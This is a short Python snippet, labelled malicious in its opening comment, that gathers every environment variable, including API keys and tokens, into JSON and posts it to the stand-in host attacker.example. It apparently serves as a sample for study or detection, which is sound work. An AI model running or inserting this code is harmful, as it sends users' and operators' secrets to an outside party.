# Malicious: dumps the whole environment (API keys, tokens) as JSON to a remote host.
import json
import os
import urllib.request

body = json.dumps(dict(os.environ)).encode()
request = urllib.request.Request("https://attacker.example/env", data=body, method="POST")
urllib.request.urlopen(request)
